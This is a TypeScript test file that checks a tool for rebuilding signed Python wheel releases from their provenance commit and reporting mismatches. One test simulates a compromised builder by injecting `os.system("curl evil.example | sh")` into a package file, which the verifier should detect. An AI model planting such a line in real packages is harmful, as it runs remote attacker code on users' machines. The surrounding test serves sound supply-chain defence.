// provenant rebuild: releases built in a real git checkout, fetched back through the verifying
// downloader and rebuilt from the commit their signed provenance names.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { appendFile, cp, mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { test } from 'node:test';
import { promisify } from 'node:util';
import { buildIntegrations } from '../../src/app/build.ts';
import type { RebuildResult } from '../../src/app/rebuild.ts';
import { listIntegrations } from '../../src/app/workspace.ts';
import { main } from '../../src/cli/main.ts';
import { buildWheel } from '../../src/wheel/wheel.ts';
import { REPO_ROOT, tempDir } from '../helpers/peers.ts';

const run = promisify(execFile);
const GIT_ENV = { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@example.com', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@example.com', GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' };

async function git(cwd: string, ...args: string[]): Promise<string> {
  return (await run('git', args, { cwd, env: GIT_ENV })).stdout.trim();
}

/** A checkout holding the examples under integrations/, committed; keys and repository beside it. */
async function setup(t: Parameters<typeof tempDir>[0]) {
  const work = await tempDir(t, 'provenant-rebuild-');
  const checkout = path.join(work, 'src');
  const integrations = path.join(checkout, 'integrations');
  await cp(path.join(REPO_ROOT, 'examples/integrations'), integrations, { recursive: true, filter: (s) => path.basename(s) !== 'dist' });
  await writeFile(path.join(checkout, '.gitignore'), 'dist/\n*.log\n');
  await git(checkout, 'init', '-q', '-b', 'main');
  await git(checkout, 'add', '-A');
  await git(checkout, 'commit', '-q', '-m', 'integrations');
  const commit = await git(checkout, 'rev-parse', 'HEAD');
  const env = { PATH: process.env.PATH, HOME: work, SOURCE_DATE_EPOCH: '1700000000', GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' };
  const repoFlags = ['--repository', path.join(work, 'repository'), '--keys', path.join(work, 'keys')];
  const cli = async (cwd: string, ...args: string[]) => {
    const o = { out: '', err: '', interactive: false, stdout: (s: string) => void (o.out += s), stderr: (s: string) => void (o.err += s) };
    const code = await main(args, o, env, cwd);
    return { code, out: o.out, err: o.err };
  };
  const rebuild = async (spec: string, source = checkout) => {
    const r = await cli(work, 'rebuild', spec, '--source', source, '--repository', path.join(work, 'repository'), '--root', path.join(work, 'keys/root.json'), '--json');
    return { ...r, result: r.out ? (JSON.parse(r.out) as RebuildResult) : undefined };
  };
  return { work, checkout, integrations, commit, env, repoFlags, cli, rebuild };
}

test('a release built in a checkout rebuilds to the same bytes from its commit, whatever the checkout holds now', async (t) => {
  const s = await setup(t);
  const rel = await s.cli(s.integrations, 'release', 'postgres', 'redisdb', ...s.repoFlags);
  assert.equal(rel.code, 0, rel.err);

  // The checkout moves on and is dirty: the rebuild reads the commit's objects only.
  await appendFile(path.join(s.integrations, 'postgres/datadog_checks/postgres/postgres.py'), '\n# later work\n');
  await git(s.checkout, 'commit', '-q', '-am', 'later work');
  await appendFile(path.join(s.integrations, 'postgres/datadog_checks/postgres/postgres.py'), '\n# uncommitted\n');
  await writeFile(path.join(s.integrations, 'postgres/datadog_checks/postgres/untracked.py'), 'X = 1\n');
  const status = await git(s.checkout, 'status', '--porcelain');

  const r = await s.rebuild('datadog-postgres==23.2.0');
  assert.equal(r.code, 0, r.err);
  assert.equal(r.result!.match, true);
  assert.equal(r.result!.commit, s.commit);
  assert.equal(r.result!.path, 'integrations/postgres');
  assert.equal(r.result!.sourceDateEpoch, 1700000000);
  assert.deepEqual(r.result!.differences, []);
  assert.equal(r.result!.rebuilt.sha256, r.result!.published.sha256);
  assert.equal(await git(s.checkout, 'status', '--porcelain'), status, 'the checkout is left as it was');

  const newest = await s.rebuild('datadog-redisdb');
  assert.equal(newest.code, 0, newest.err);
  assert.equal(newest.result!.match, true);
});

test('a published wheel that is not what its commit builds: exit 5, naming the files that differ', async (t) => {
  const s = await setup(t);
  assert.equal((await s.cli(s.integrations, 'release', 'postgres', ...s.repoFlags)).code, 0);
  // A compromised builder: the statement says "clean commit X", the wheel carries an extra line.
  const [redis] = (await listIntegrations(s.integrations)).filter((i) => i.name === 'redisdb');
  await buildIntegrations([redis!], {
    env: s.env,
    buildWheel: async (dir, opts) => {
      const evil = path.join(s.work, 'evil', path.basename(dir));
      await cp(dir, evil, { recursive: true });
      await appendFile(path.join(evil, 'datadog_checks/redisdb/redisdb.py'), '\nimport os; os.system("curl evil.example | sh")\n');
      return buildWheel(evil, opts);
    },
  });
  assert.equal((await s.cli(s.integrations, 'sign', 'redisdb', '--keys', path.join(s.work, 'keys'))).code, 0);
  const pub = await s.cli(s.integrations, 'publish', 'redisdb', ...s.repoFlags);
  assert.equal(pub.code, 0, pub.err);

  const r = await s.rebuild('datadog-redisdb');
  assert.equal(r.code, 5, r.err);
  assert.match(r.err, /E_REBUILD_MISMATCH/);
  assert.match(r.err, /datadog_checks\/redisdb\/redisdb\.py: content/);
  assert.equal(r.result!.match, false);
  assert.deepEqual(r.result!.differences.map((d) => `${d.path} ${d.kind}`), ['datadog_checks/redisdb/redisdb.py content', 'datadog_redisdb-7.1.0.dist-info/RECORD content']);

  const human = await s.cli(s.work, 'rebuild', 'datadog-redisdb', '--source', s.checkout, '--repository', path.join(s.work, 'repository'));
  assert.equal(human.code, 5);
  assert.match(human.out, /^DIFFERENT: datadog_redisdb-7\.1\.0-py2\.py3-none-any\.whl/);
});

test('not rebuildable: a commit the checkout lacks (exit 3), a release built from a modified tree (exit 5)', async (t) => {
  const s = await setup(t);
  assert.equal((await s.cli(s.integrations, 'release', 'postgres', ...s.repoFlags)).code, 0);
  const other = path.join(s.work, 'other');
  await mkdir(other);
  await git(other, 'init', '-q');
  await writeFile(path.join(other, 'x'), 'x');
  await git(other, 'add', '-A');
  await git(other, 'commit', '-q', '-m', 'unrelated');
  const wrong = await s.rebuild('datadog-postgres', other);
  assert.equal(wrong.code, 3, wrong.err);
  assert.match(wrong.err, /E_REBUILD_COMMIT_UNKNOWN: .*does not have/);
  const notGit = await s.rebuild('datadog-postgres', path.join(s.work, 'keys'));
  assert.equal(notGit.code, 3);
  assert.match(notGit.err, /E_REBUILD_SOURCE: .* is not a git checkout/);

  await appendFile(path.join(s.integrations, 'nginx/datadog_checks/nginx/nginx.py'), '\n# not committed\n');
  assert.equal((await s.cli(s.integrations, 'release', 'nginx', ...s.repoFlags)).code, 0);
  const dirty = await s.rebuild('datadog-nginx==8.1.0rc1', s.checkout);
  assert.equal(dirty.code, 5, dirty.err);
  assert.match(dirty.err, /E_REBUILD_SOURCE: .*built from a modified working tree/);
});
